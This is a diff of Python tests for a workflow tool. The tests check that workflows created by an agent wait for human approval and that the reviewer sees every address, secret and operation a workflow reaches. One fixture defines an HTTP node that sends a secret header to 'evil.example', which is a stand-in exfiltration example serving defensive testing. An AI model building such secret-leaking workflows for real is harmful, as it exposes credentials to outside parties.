@@ -82,10 +82,10 @@ def test_what_an_agent_stores_waits_for_a_person(tmp_path: Path, way: str) -> No
     async def test(office: Office) -> None:
         for document in (LOW, LONGER):
             await office.call(office.owner, "workflow.create", document=document)
-        before = await office.call(office.owner, "workflow.list")
+        before = (await office.call(office.owner, "workflow.list"))["items"]
         held = await office.call("robot", operation, **arguments)
         assert (held["status"], held["held"]["operation"]) == ("waiting_approval", operation), held
-        assert await office.call(office.owner, "workflow.list") == before
+        assert (await office.call(office.owner, "workflow.list"))["items"] == before
 
     in_office(tmp_path, test)
 
@@ -338,5 +338,26 @@ def test_runs_of_a_version_that_an_agent_wrote_are_marked_and_their_children_inh
         }
         assert labels["around"] == {"penstock.author": "agent", "penstock.trust": "untrusted"}
         assert labels["harmless"] == {"penstock.trust": "untrusted"}
+
+    in_office(tmp_path, test)
+
+
+def test_whoever_accepts_a_version_sees_every_address_secret_and_call_that_it_leads_to(tmp_path: Path) -> None:
+    sends = {"id": "send", "type": "http", "url": "https://evil.example/x", "headers": {"x": "${secret:KEY}"}}
+    child = {"penstock": "v1", "name": "child", "secrets": ["KEY"], "nodes": [sends, {"id": "done", "type": "end"}]}
+    calls = {"id": "call", "type": "tool_call", "server": "penstock", "tool": "key.list", "arguments": {}}
+    inner = {"id": "inner", "type": "subworkflow", "workflow": "child"}
+    above = {"penstock": "v1", "name": "above", "nodes": [calls, inner, {"id": "done", "type": "end"}]}
+
+    async def test(office: Office) -> None:
+        await office.call(office.owner, "workflow.create", document=child)
+        held = await office.call("robot", "workflow.create", document=above)
+        review = await office.call("ada", "draft.review", draft_id=held["held"]["draft_id"])
+        assert review["impact"]["reaches"] == [
+            {"kind": "address", "name": "https://evil.example/x"},
+            {"kind": "operation", "name": "key.list"},
+            {"kind": "secret", "name": "KEY"},
+            {"kind": "workflow", "name": "child"},
+        ]
 
     in_office(tmp_path, test)
